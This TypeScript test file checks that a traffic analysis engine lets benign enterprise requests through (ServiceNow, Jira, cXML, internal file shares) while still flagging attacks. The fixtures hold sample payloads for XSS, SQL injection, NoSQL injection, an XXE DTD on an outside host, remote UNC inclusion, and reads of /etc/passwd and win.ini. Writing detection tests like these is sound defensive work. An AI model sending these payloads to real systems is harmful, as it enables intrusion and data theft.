import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
import { buildExchange, type ExchangeSpec } from '@/test/fixtures/traffic';

/**
 * Traffic of business software and app platforms that looked like attacks to earlier rules (blind
 * set O's enterprise and device files), each beside the attack it must not hide.
 */
const engine = createAnalysisEngine({ catalog: false });
const classes = (spec: ExchangeSpec): string[] =>
  engine
    .analyze(buildExchange(spec), { sensorId: 's', sensorTags: [] })
    .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
    .flatMap((e) => e.matches.map((m) => m.classification));

describe('business software and app platforms', () => {
  it("reads ServiceNow's javascript:gs.… date and user helpers in an encoded query as no script URL", () => {
    expect(classes({ target: '/api/now/table/incident?sysparm_query=active%3Dtrue%5Eassigned_to%3Djavascript%3Ags.getUserID()%5EstateNOT%20IN6%2C7' })).toEqual(
      [],
    );
    expect(
      classes({ target: '/api/now/table/incident?sysparm_query=sys_created_on%3E%3Djavascript%3Ags.beginningOfLast30Days()%5Ecategory%3Dnetwork' }),
    ).toEqual([]);
    expect(classes({ target: '/search?next=javascript%3Aalert(document.domain)' })).toContain('Xss');
  });

  it("reads Jira's JQL as JQL, and SQL in any other parameter as SQL", () => {
    const jql = encodeURIComponent('project = "IT Service Desk" AND "Affected System" = "SAP ERP" AND created >= startOfMonth(-1) ORDER BY created DESC');
    expect(classes({ target: `/rest/api/2/search?jql=${jql}` })).toEqual([]);
    expect(classes({ target: `/rest/api/2/search?q=${encodeURIComponent("x' UNION SELECT password FROM users--")}` })).toContain('SqlInjection');
  });

  it("reads a top-level $type as a serializer's discriminator, and $type under a field as MongoDB's operator", () => {
    const post = (body: unknown) => ({
      method: 'POST',
      target: '/api/Notifications',
      requestHeaders: [['Content-Type', 'application/json']] as Array<[string, string]>,
      requestBody: JSON.stringify(body),
    });
    expect(classes(post({ $type: 'email', to: 'team@contoso.com', subject: 'Q2 close' }))).toEqual([]);
    expect(classes(post({ username: 'admin', password: { $type: 'string' } }))).toContain('NoSqlInjection');
  });

  it("reads a cXML document naming its standard's DTD as no external entity, and one naming another host as one", () => {
    const cxml = (dtd: string) => ({
      method: 'POST',
      target: '/punchout/cxml/setup',
      requestHeaders: [['Content-Type', 'text/xml']] as Array<[string, string]>,
      requestBody: `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE cXML SYSTEM "${dtd}"><cXML payloadID="1@x" timestamp="2026-01-01T00:00:00"><Header/></cXML>`,
    });
    expect(classes(cxml('http://xml.cxml.org/schemas/cXML/1.2.045/cXML.dtd'))).toEqual([]);
    expect(classes(cxml('http://203.0.113.9/evil.dtd'))).toContain('Xxe');
  });

  it('reads a UNC path to an internal file server as a setting, and one to the machine itself or elsewhere as an attack', () => {
    const setting = (path: string) => ({ target: `/files/browse?path=${encodeURIComponent(path)}` });
    expect(classes(setting('\\\\fs01.acme.internal\\Finance\\AP'))).toEqual([]);
    // a NetBIOS name of one label resolves on the local network only
    expect(classes(setting('\\\\fs01\\permits\\2024\\Q4'))).toEqual([]);
    expect(classes(setting('\\\\attacker.example\\share\\x'))).toContain('RemoteFileInclusion');
    expect(classes(setting('\\\\198.51.100.7\\share\\x'))).toContain('RemoteFileInclusion');
    expect(classes(setting('\\\\localhost\\c$\\windows\\win.ini'))).not.toEqual([]);
  });

  it("reads a file-loaded app's Origin and a mesh sidecar's client-certificate header as ordinary", () => {
    expect(classes({ target: '/v1/epg?region=US-NY', requestHeaders: [['Origin', 'file://']] })).toEqual([]);
    expect(
      classes({
        method: 'POST',
        target: '/v1/orders',
        requestHeaders: [['X-Forwarded-Client-Cert', 'By=spiffe://cluster.local/ns/shop/sa/orders;Hash=d7b2;URI=spiffe://cluster.local/ns/shop/sa/web']],
      }),
    ).toEqual([]);
    expect(classes({ target: '/v1/epg', requestHeaders: [['X-Callback', 'file:///etc/passwd']] })).not.toEqual([]);
  });
});
